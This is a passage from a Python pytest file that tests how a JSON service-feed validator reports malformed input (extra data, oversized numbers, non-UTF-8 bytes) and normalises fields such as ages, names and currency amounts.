                                     'list'], id="not-a-list"),
    pytest.param('[]\n[]', ["feed.json:2: not valid JSON at column 1: Extra data"], id="extra-data"),
    pytest.param('[{"id": "svc-1",\n  "minimum_age": ' + "1" * 5000 + "}]",
                 ["feed.json:2: not valid JSON at column 18: a number of more than 4300 digits"], id="huge-number"),
    pytest.param(b'[{"id": "svc-1",\n "name": "Caf\xe9"}]',
                 ["feed.json:2: not UTF-8 text (byte 0xe9 cannot be read as UTF-8); save the file as UTF-8"],
                 id="not-utf-8"),
]


@pytest.mark.parametrize(("content", "expected"), JSON_CASES)
def test_problems_in_json(tmp_path: Path, content: str | bytes, expected: list[str]) -> None:
    put(tmp_path / "feed.json", content)
    assert problems_of(tmp_path / "feed.json") == expected


def test_json_numbers_may_be_text_and_text_is_stripped(tmp_path: Path) -> None:
    put(tmp_path / "feed.json", json.dumps([{
        "id": " svc-1 ", "name": "Inschrijving", "status": "active", "minimum_age": "16", "alternate_name": "  ",
        "organization": {"id": "org-1", "name": "Actiwerk"},
        "cost_options": [{"id": "cost-1", "amount": 26.30, "currency": "eur"}]}]))
    (service,) = read(tmp_path / "feed.json").services
    assert (service.id, service.minimum_age, service.alternate_name) == ("svc-1", 16, None)
    assert (service.cost_options[0].amount, service.cost_options[0].currency) == (Decimal("26.30"), "EUR")
